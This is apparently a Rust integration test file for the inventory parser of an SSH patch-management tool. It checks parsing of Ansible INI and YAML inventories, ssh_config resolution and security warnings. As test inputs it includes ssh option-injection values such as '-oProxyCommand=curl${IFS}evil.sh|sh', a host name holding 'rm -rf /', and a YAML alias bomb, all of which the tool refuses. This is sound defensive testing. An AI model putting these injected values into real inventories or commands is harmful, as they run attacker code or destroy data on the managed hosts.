//! Integration tests: inventory.

use std::path::{Path, PathBuf};

use patchdeck::diag::{Diagnostics, SourceFile};
use patchdeck::inventory::ssh_config::{self, ResolveError, StrictHostKeyChecking};
use patchdeck::inventory::{Host, Inventory, ansible_ini, ansible_yaml, load_file};

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/inventory").join(name)
}

/// `line:col: message` of every diagnostic, in report order.
fn positions(d: &Diagnostics) -> Vec<String> {
    d.iter().map(|d| format!("{}:{}: {}", d.line, d.col, d.message)).collect()
}

fn ini(text: &str) -> Result<Inventory, Diagnostics> {
    ansible_ini::parse(&SourceFile::new("test.ini", text))
}

fn yaml(text: &str) -> Result<Inventory, Diagnostics> {
    ansible_yaml::parse(&SourceFile::new("test.yml", text))
}

fn names(inv: &Inventory) -> Vec<&str> {
    inv.hosts.iter().map(|(h, _)| h.name.as_str()).collect()
}

fn host<'a>(inv: &'a Inventory, name: &str) -> &'a Host {
    &inv.hosts.iter().find(|(h, _)| h.name == name).unwrap_or_else(|| panic!("no host {name}")).0
}

fn host_at(address: &str, user: Option<&str>, port: Option<u16>, sudo: bool, tags: &[&str], weight: u32) -> Host {
    Host {
        name: String::new(),
        address: address.to_string(),
        user: user.map(String::from),
        port,
        sudo,
        tags: tags.iter().map(|t| t.to_string()).collect(),
        weight,
        ..Host::named("")
    }
}

/// What both production fixtures (INI and YAML) must give, host by host.
fn assert_production(inv: &Inventory) {
    assert_eq!(
        names(inv),
        [
            "bastion.example.net",
            "web01.example.net",
            "web02.example.net",
            "web03.example.net",
            "web-canary.example.net",
            "api-1.example.net",
            "api-2.example.net",
            "db-a.internal",
            "db-b.internal",
            "db-c.internal",
        ]
    );
    let front = &["frontend", "prod", "web"];
    let expected = [
        // Host vars beat `all:vars`; ungrouped hosts get no tags.
        ("bastion.example.net", host_at("bastion.example.net", Some("ops"), None, false, &[], 1)),
        // In web and api (merged): web's port (deepest group) beats frontend's; frontend's weight beats prod's.
        (
            "web01.example.net",
            host_at("web01.example.net", Some("deploy"), Some(2201), true, &["api", "frontend", "prod", "web"], 10),
        ),
        ("web02.example.net", host_at("web02.example.net", Some("deploy"), Some(2201), true, front, 10)),
        ("web03.example.net", host_at("web03.example.net", Some("deploy"), Some(2201), true, front, 10)),
        ("web-canary.example.net", host_at("10.20.1.50", Some("deploy"), Some(2201), true, front, 0)),
        (
            "api-1.example.net",
            host_at("api-1.example.net", Some("deploy"), Some(2222), true, &["api", "frontend", "prod"], 10),
        ),
        // `host:port` sets the port; quotes and the trailing comment are gone.
        (
            "api-2.example.net",
            host_at("api-2.example.net", Some("svc_patch"), Some(2200), true, &["api", "frontend", "prod"], 10),
        ),
        ("db-a.internal", host_at("db-a.internal", Some("dba"), None, true, &["backend", "db", "prod"], 50)),
        ("db-b.internal", host_at("db-b.internal", Some("dba"), None, true, &["backend", "db", "prod"], 50)),
        ("db-c.internal", host_at("10.20.3.13", Some("postgres"), None, true, &["backend", "db", "prod"], 80)),
    ];
    for (name, mut want) in expected {
        want.name = name.to_string();
        assert_eq!(host(inv, name), &want, "{name}");
    }
}

#[test]
fn ini_production_inventory() {
    let path = fixture("production.ini");
    let inv = load_file(&path).unwrap();
    assert_production(&inv);
    let src = SourceFile::read(&path).unwrap();
    // Origins point at the first mention of each name; a range's hosts share the pattern.
    let origin = |name: &str| {
        let (_, o) = inv.hosts.iter().find(|(h, _)| h.name == name).unwrap();
        assert_eq!(o.file, path);
        (src.line_col(o.span.start), &src.text[o.span.clone()])
    };
    assert_eq!(origin("bastion.example.net"), ((4, 1), "bastion.example.net"));
    assert_eq!(origin("web01.example.net"), ((7, 1), "web[01:03].example.net"));
    assert_eq!(origin("web03.example.net"), ((7, 1), "web[01:03].example.net"));
    assert_eq!(origin("api-2.example.net"), ((12, 1), "api-2.example.net"));
    assert_eq!(origin("db-c.internal"), ((17, 1), "db-c.internal"));
}

#[test]
fn yaml_production_inventory_matches_the_ini_one() {
    let path = fixture("production.yml");
    let inv = load_file(&path).unwrap();
    assert_production(&inv);
    let from_ini = load_file(&fixture("production.ini")).unwrap();
    let hosts = |inv: &Inventory| inv.hosts.iter().map(|(h, _)| h.clone()).collect::<Vec<_>>();
    assert_eq!(hosts(&inv), hosts(&from_ini));

    let src = SourceFile::read(&path).unwrap();
    let origin = |name: &str| {
        let (_, o) = inv.hosts.iter().find(|(h, _)| h.name == name).unwrap();
        (src.line_col(o.span.start), &src.text[o.span.clone()])
    };
    assert_eq!(origin("bastion.example.net"), ((8, 5), "bastion.example.net"));
    assert_eq!(origin("web02.example.net"), ((25, 17), "web[01:03].example.net"));
    // Declared under web first, again under api: the first mention wins.
    assert_eq!(origin("web01.example.net"), ((25, 17), "web[01:03].example.net"));
    assert_eq!(origin("api-2.example.net"), ((33, 18), "api-2.example.net"));
    assert_eq!(origin("db-c.internal"), ((45, 17), "db-c.internal"));
}

#[test]
fn ini_errors_are_all_reported_with_positions() {
    let err = load_file(&fixture("broken.ini")).unwrap_err();
    assert_eq!(
        positions(&err),
        [
            "2:20: ansible_port: port must be a number from 1 to 65535, got \"99999\"",
            "3:20: ansible_host \"-oProxyCommand=curl${IFS}evil.sh|sh\" is not a safe address: it starts with '-', so \
             ssh would read it as an option",
            "4:4: zero-padded host range [01:3] needs both ends of the same width",
            "5:5: expected key=value after the host name, got \"03\"",
            "6:1: host name `db;rm -rf /` contains ';': a name is letters, digits, '.', '_' and '-' (docs/runbook.md, \"Names\")",
            "7:1: unclosed '[' in section header: expected `[group]`",
            "8:20: ansible_become must be true or false (yes/no, 1/0), got \"perhaps\"",
            "11:1: [frontend:children] includes undefined group `webz`",
            "12:1: [dbs:vars] is for group `dbs`, which no section defines",
            "14:6: section [api:bogus] has unknown type `bogus`: expected `vars` or `children`",
            "16:14: ansible_user `deploy # the deploy user` contains a space: a name is letters, digits, '.', '_' and '-' (docs/runbook.md, \"Names\")",
        ]
    );
    // Rendered for the operator: file:line:col, the line and a caret under the bad value.
    let shown = err.iter().next().unwrap().to_string();
    assert!(shown.contains("broken.ini:2:20: error: ansible_port"), "{shown}");
    assert!(shown.contains("2 | web01 ansible_port=99999\n  |                    ^^^^^"), "{shown}");
    assert!(err.to_string().ends_with("11 problems found; nothing was changed on any host"));
}

#[test]
fn ini_ungrouped_quoting_and_comments() {
    let inv = ini("; header comment\n\
                   # another\n\
                   alpha ansible_user='a.user' ansible_port=\"2022\"   # trailing\n\
                   beta:2200\n\
                   2001:db8::7 patchdeck_weight=3\n\
                   \n\
                   [ungrouped]\n\
                   gamma\n")
    .unwrap();
    assert_eq!(names(&inv), ["alpha", "beta", "2001:db8::7", "gamma"]);
    let alpha = host(&inv, "alpha");
    assert_eq!((alpha.user.as_deref(), alpha.port, alpha.tags.len()), (Some("a.user"), Some(2022), 0));
    assert_eq!(host(&inv, "beta").port, Some(2200));
    assert_eq!((host(&inv, "2001:db8::7").port, host(&inv, "2001:db8::7").weight), (None, 3));
    assert!(host(&inv, "gamma").tags.is_empty(), "`ungrouped` is not a tag");
}

#[test]
fn ini_child_vars_beat_parent_vars_regardless_of_file_order() {
    // Child section first, parent vars last: depth decides, not order.
    let inv = ini("[web]\nw1\n[web:vars]\nansible_port=2201\n[edge:children]\nweb\n[edge:vars]\nansible_port=2100\n\
                   ansible_user=edge\n")
    .unwrap();
    let w1 = host(&inv, "w1");
    assert_eq!((w1.port, w1.user.as_deref()), (Some(2201), Some("edge")));
    assert_eq!(w1.tags, ["edge", "web"]);
}

#[test]
fn ini_same_depth_groups_apply_in_name_order_like_ansible() {
    let inv =
        ini("[b_group]\nh\n[a_group]\nh\n[a_group:vars]\npatchdeck_weight=1\n[b_group:vars]\npatchdeck_weight=7\n")
            .unwrap();
    assert_eq!(host(&inv, "h").weight, 7);
    assert_eq!(inv.hosts.len(), 1, "one host, merged");
}

#[test]
fn ini_children_may_be_defined_later_but_loops_are_refused() {
    let inv = ini("[all_web:children]\nweb\n[web]\nw1\n").unwrap();
    assert_eq!(host(&inv, "w1").tags, ["all_web", "web"]);

    let err = ini("[a:children]\nb\n[b:children]\na\n").unwrap_err();
    assert_eq!(positions(&err), ["4:1: group `a` cannot be a child of `b`: that would make a group its own ancestor"]);
}

#[test]
fn ini_injection_through_a_name_or_user_is_refused() {
    let err = ini("-oProxyCommand=id\nok ansible_user=-froot\n").unwrap_err();
    assert_eq!(
        positions(&err),
        [
            "1:1: host name `-oProxyCommand=id` starts with '-', which reads as an option: a name is letters, digits, '.', '_' and '-' (docs/runbook.md, \"Names\")",
            "2:17: ansible_user `-froot` starts with '-', which reads as an option: a name is letters, digits, '.', '_' and '-' (docs/runbook.md, \"Names\")",
        ]
    );
}

#[test]
fn ini_bad_host_port_and_unclosed_quote() {
    let err = ini("[web]\nweb1:22x\nweb2 ansible_user=\"deploy\n").unwrap_err();
    assert_eq!(
        positions(&err),
        ["2:6: host port must be a number from 1 to 65535, got \"22x\"", "3:19: unclosed \" quote"]
    );
}

#[test]
fn yaml_errors_are_all_reported_with_positions() {
    let err = load_file(&fixture("broken.yml")).unwrap_err();
    assert_eq!(
        positions(&err),
        [
            "3:19: ansible_port: port must be a number from 1 to 65535, got \"22x\"",
            "6:7: unexpected key `host` in group `web`",
            "10:27: ansible_become must be true or false (yes/no, 1/0), got \"maybe\"",
            "11:12: host range [3:1] starts after it ends",
            "12:9: host name `-oProxyCommand=id` starts with '-', which reads as an option: a name is letters, digits, '.', '_' and '-' (docs/runbook.md, \"Names\")",
            "14:7: `hosts` must be a mapping of host names, not a list",
            "20:11: `ansible_user` must be a single value",
        ]
    );
}

#[test]
fn yaml_syntax_error_has_the_parsers_position() {
    let err = load_file(&fixture("syntax.yml")).unwrap_err();
    let d = err.iter().next().unwrap();
    assert_eq!(err.len(), 1);
    assert!(d.message.starts_with("invalid YAML: "), "{}", d.message);
    assert!(!d.message.contains(" at line "), "position is shown once, by the diagnostic: {}", d.message);
    // `web02` lacks its `:`.
    assert_eq!((d.line, d.col), (5, 5), "{d}");
}

#[test]
fn a_yaml_alias_bomb_is_refused_quickly_with_a_position() {
    let started = std::time::Instant::now();
    let err = load_file(&fixture("billion-laughs.yml")).unwrap_err();
    let d = err.iter().next().unwrap();
    assert!(d.message.starts_with("invalid YAML: "), "{d}");
    assert!(d.line > 0, "positioned: {d}");
    // A bound, not a benchmark: expanding the bomb would take minutes and gigabytes.
    assert!(started.elapsed() < std::time::Duration::from_secs(20), "{:?}", started.elapsed());
}

#[test]
fn yaml_tags_like_ansible_vault_do_not_break_the_inventory() {
    let inv = yaml(
        "all:\n  hosts:\n    web1:\n      secret: !vault |\n        $ANSIBLE_VAULT;1.1;AES256\n        6162\n      ansible_port: !!int 2222\n",
    )
    .unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(host(&inv, "web1").port, Some(2222));
}

#[test]
fn a_host_listed_twice_in_one_yaml_mapping_is_an_error_not_a_silent_merge() {
    let err =
        yaml("all:\n  hosts:\n    web1:\n      ansible_port: 22\n    web1:\n      ansible_user: ops\n").unwrap_err();
    let d = err.iter().next().unwrap();
    assert!(d.message.starts_with("invalid YAML: ") && d.line == 5, "{d}");
}

#[test]
fn yaml_top_level_groups_beside_all_and_flow_style() {
    let inv = yaml(
        "web:\n  hosts:\n    w1:\n    w2: {ansible_become: 'no', ansible_port: 2201}\n\
                    all:\n  vars: {ansible_become: yes}\n  children:\n    web:\n      vars: {patchdeck_weight: 4}\n",
    )
    .unwrap();
    assert_eq!(names(&inv), ["w1", "w2"]);
    assert_eq!(
        (host(&inv, "w1").sudo, host(&inv, "w1").weight, host(&inv, "w1").tags.clone()),
        (true, 4, vec!["web".to_string()])
    );
    assert_eq!((host(&inv, "w2").sudo, host(&inv, "w2").port), (false, Some(2201)));
}

#[test]
fn yaml_empty_file_is_an_empty_inventory() {
    assert!(yaml("# nothing yet\n").unwrap().hosts.is_empty());
    assert_eq!(
        positions(&yaml("- a\n- b\n").unwrap_err()),
        ["1:1: expected a mapping of groups at the top level, starting with `all:`"]
    );
}

#[test]
fn load_file_dispatches_by_extension() {
    let dir = tempfile::tempdir().unwrap();
    let hosts = dir.path().join("hosts");
    std::fs::write(&hosts, "[web]\nw1 ansible_port=2201\n").unwrap();
    assert_eq!(host(&load_file(&hosts).unwrap(), "w1").port, Some(2201));

    let toml = dir.path().join("hosts.toml");
    std::fs::write(&toml, "[[host]]\nname = \"w1\"\n").unwrap();
    let err = load_file(&toml).unwrap_err();
    assert_eq!(
        err.iter().next().unwrap().message,
        "TOML hosts files are loaded by the runbook loader, not as an Ansible inventory"
    );

    let missing = load_file(&dir.path().join("nope.yml")).unwrap_err();
    let d = missing.iter().next().unwrap();
    assert!(d.message.starts_with("cannot read the inventory: "), "{}", d.message);
    assert_eq!(d.line, 0);
}

const MYALIAS_CONFIG: &str = "\
Host myalias
    HostName 127.0.0.5
    User deploy
    Port 2222
    IdentityFile ~/.ssh/patchdeck_test
    ConnectTimeout 4

Host insecure
    HostName 127.0.0.6
    StrictHostKeyChecking no
    UserKnownHostsFile /dev/null
";

fn ssh_config_file() -> tempfile::NamedTempFile {
    use std::io::Write;
    let mut f = tempfile::NamedTempFile::new().unwrap();
    f.write_all(MYALIAS_CONFIG.as_bytes()).unwrap();
    f
}

#[tokio::test]
async fn ssh_g_resolves_an_alias_like_ssh_would() {
    let cfg = ssh_config_file();
    let r = ssh_config::resolve(&Host::named("myalias"), Some(cfg.path())).await.unwrap();
    assert_eq!(r.hostname, "127.0.0.5");
    assert_eq!(r.user, "deploy");
    assert_eq!(r.port, 2222);
    assert_eq!(r.identity_files, vec!["~/.ssh/patchdeck_test"]);
    assert_eq!(r.connect_timeout, Some(std::time::Duration::from_secs(4)));
    assert_eq!(r.proxy_jump, None);
    assert!(ssh_config::host_key_warnings("myalias", &r).is_empty());
}

#[tokio::test]
async fn inventory_user_and_port_win_over_ssh_config() {
    let cfg = ssh_config_file();
    let mut host = Host::named("myalias");
    host.user = Some("ops".into());
    host.port = Some(2022);
    let r = ssh_config::resolve(&host, Some(cfg.path())).await.unwrap();
    assert_eq!((r.hostname.as_str(), r.user.as_str(), r.port), ("127.0.0.5", "ops", 2022));
}

#[tokio::test]
async fn insecure_ssh_config_is_reported() {
    let cfg = ssh_config_file();
    let r = ssh_config::resolve(&Host::named("insecure"), Some(cfg.path())).await.unwrap();
    assert_eq!(r.hostname, "127.0.0.6");
    assert_eq!(r.strict_host_key_checking, Some(StrictHostKeyChecking::No));
    let warnings = ssh_config::host_key_warnings("insecure", &r);
    assert_eq!(warnings.len(), 2, "{warnings:?}");
    assert!(warnings[0].starts_with("ssh_config sets `StrictHostKeyChecking no` for insecure:"), "{warnings:?}");
    assert!(warnings[1].starts_with("ssh_config sets `UserKnownHostsFile /dev/null` for insecure:"), "{warnings:?}");
}

/// What the operator sees: `patchdeck check` with an ssh_config that turns host-key checking
/// off for one window host warns about that host, each setting on its own line, and says
/// nothing about the host whose entry is sound. (Neither host answers: the warnings come
/// before anything is reached.)
#[test]
fn check_reports_an_insecure_ssh_config_to_the_operator() {
    if !crate::support::require::ssh_client() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("ssh_config");
    // Port 1 on loopback addresses: nothing answers, so nothing is reached.
    std::fs::write(&cfg, MYALIAS_CONFIG.replace("Port 2222", "Port 1") + "    Port 1\n").unwrap();
    std::fs::write(
        dir.path().join("tested.toml"),
        "host = \"staging\"\ncaptured_at = \"2026-11-22T00:00:00Z\"\nsource = \"pending\"\n",
    )
    .unwrap();
    let runbook = dir.path().join("runbook.toml");
    std::fs::write(
        &runbook,
        "[window]\nname = \"w\"\nstarts = \"2026-11-22T22:00:00Z\"\nends = \"2026-11-22T23:30:00Z\"\n\
         rollback_reserve = \"20m\"\n[baseline]\nfile = \"tested.toml\"\nhost = \"staging\"\n\
         [[host]]\nname = \"staging\"\naddress = \"myalias\"\n\
         [[host]]\nname = \"prod1\"\naddress = \"insecure\"\n\
         [[host]]\nname = \"prod2\"\naddress = \"myalias\"\n\
         [[wave]]\nname = \"all\"\nhosts = [\"prod1\", \"prod2\"]\n\
         [[step]]\nname = \"apply tested updates\"\npackages = \"tested\"\n",
    )
    .unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_patchdeck"))
        .arg("--ssh-config")
        .arg(&cfg)
        .args(["--connect-timeout", "2", "check"])
        .arg(&runbook)
        .env("NO_COLOR", "1")
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    let warnings: Vec<&str> = err.lines().filter(|l| l.starts_with("warning: ssh_config sets")).collect();
    assert_eq!(warnings.len(), 2, "{err}");
    assert!(warnings[0].starts_with("warning: ssh_config sets `StrictHostKeyChecking no` for prod1:"), "{err}");
    assert!(warnings[1].starts_with("warning: ssh_config sets `UserKnownHostsFile /dev/null` for prod1:"), "{err}");
    assert!(!err.contains("for prod2"), "{err}");
    assert_ne!(out.status.code(), Some(0), "no host was reached: {err}");
}

#[tokio::test]
async fn option_injection_in_address_never_reaches_ssh() {
    let mut host = Host::named("evil");
    host.address = "-oProxyCommand=touch /tmp/pwned".into();
    let err = ssh_config::resolve(&host, None).await.unwrap_err();
    assert!(matches!(err, ResolveError::Unsafe { what: "address", .. }), "{err:?}");
    assert_eq!(
        err.to_string(),
        "refusing to hand address \"-oProxyCommand=touch /tmp/pwned\" to ssh: it starts with '-', so ssh would read \
         it as an option"
    );
}

#[tokio::test]
async fn missing_ssh_config_file_is_a_clear_failure() {
    let err = ssh_config::resolve(&Host::named("myalias"), Some(std::path::Path::new("/nonexistent/ssh_config")))
        .await
        .unwrap_err();
    let ResolveError::Failed { code, stderr, .. } = &err else { panic!("{err:?}") };
    assert_eq!(code, "255");
    assert!(stderr.contains("/nonexistent/ssh_config"), "{stderr}");
}

// ---------------------------------------------------------------------------------------
// Connection variables are honoured or refused, never dropped (issue 15).
// ---------------------------------------------------------------------------------------

#[test]
fn ssh_connection_variables_are_honoured() {
    let inv = ini(
        "[web]\n\
         web1 ansible_host=10.0.0.5 ansible_ssh_private_key_file=keys/deploy ansible_ssh_common_args='-J bastion.example.com'\n\
         web2 ansible_ssh_extra_args=\"-o ProxyJump=ops@b1:2222,b2\" ansible_connection=ssh\n\
         [web:vars]\n\
         ansible_become=yes\n\
         ansible_become_method=sudo\n\
         ansible_become_user=root\n\
         ansible_host_key_checking=true\n",
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let web1 = host(&inv, "web1");
    assert_eq!(web1.address, "10.0.0.5");
    assert_eq!(web1.identity_file.as_deref(), Some(Path::new("keys/deploy")));
    assert_eq!(web1.jump_hosts, ["bastion.example.com"]);
    assert!(web1.sudo);
    assert_eq!(host(&inv, "web2").jump_hosts, ["ops@b1:2222", "b2"]);
    let yaml_inv = yaml(
        "all:\n  hosts:\n    web1:\n      ansible_private_key_file: /k/id\n      ansible_ssh_common_args: -oProxyJump=jump1\n",
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let web1 = host(&yaml_inv, "web1");
    assert_eq!(
        (web1.identity_file.as_deref(), web1.jump_hosts.as_slice()),
        (Some(Path::new("/k/id")), &["jump1".to_string()][..])
    );
}

#[test]
fn ssh_connection_variables_that_cannot_be_honoured_are_refused_where_written() {
    let err = ini("[web]\n\
         web1 ansible_ssh_common_args='-o StrictHostKeyChecking=no'\n\
         web2 ansible_ssh_common_args='-o ProxyCommand=\"ssh -W %h:%p bastion\"'\n\
         web3 ansible_ssh_extra_args='-F /tmp/cfg'\n\
         web4 ansible_ssh_common_args='-J -oProxyCommand=touch${IFS}pwned'\n\
         web5 ansible_password=hunter2 ansible_connection=local\n\
         [web:vars]\n\
         ansible_become_method=su\n\
         ansible_host_key_checking=false\n\
         ansible_ssh_pass=x\n")
    .unwrap_err();
    let got = positions(&err);
    let expect = [
        ("2:30", "ansible_ssh_common_args: the option `-o StrictHostKeyChecking=no` is not passed on"),
        ("3:30", "ansible_ssh_common_args: the option `-o ProxyCommand=ssh -W %h:%p bastion` is not passed on"),
        ("4:29", "ansible_ssh_extra_args: `-F` is not passed on"),
        ("5:30", "ansible_ssh_common_args: jump host \"-oProxyCommand=touch${IFS}pwned\" is unsafe"),
        ("6:23", "ansible_password is not supported: patchdeck never types passwords"),
        ("6:50", "ansible_connection \"local\" is not supported"),
        ("8:23", "ansible_become_method \"su\" is not supported"),
        ("9:27", "ansible_host_key_checking \"false\": patchdeck always checks host keys"),
        ("10:18", "ansible_password is not supported"),
    ];
    assert_eq!(got.len(), expect.len(), "{got:#?}");
    for (line, (at, start)) in got.iter().zip(expect) {
        assert!(line.starts_with(&format!("{at}: {start}")), "expected {at}: {start}...\n got {line}");
    }
    assert!(got[0].contains("set other ssh options in ssh_config"), "{}", got[0]);
}

#[tokio::test]
async fn ssh_g_sees_the_inventory_jump_host_and_key() {
    let cfg = ssh_config_file();
    let mut host = Host::named("myalias");
    host.jump_hosts = vec!["bastion.example.com".into()];
    // ssh ignores a key file that does not exist.
    let key = tempfile::NamedTempFile::new().unwrap();
    host.identity_file = Some(key.path().to_path_buf());
    let r = ssh_config::resolve(&host, Some(cfg.path())).await.unwrap();
    assert_eq!(r.proxy_jump.as_deref(), Some("bastion.example.com"));
    assert!(r.identity_files.iter().any(|f| Path::new(f) == key.path()), "{:?}", r.identity_files);
}
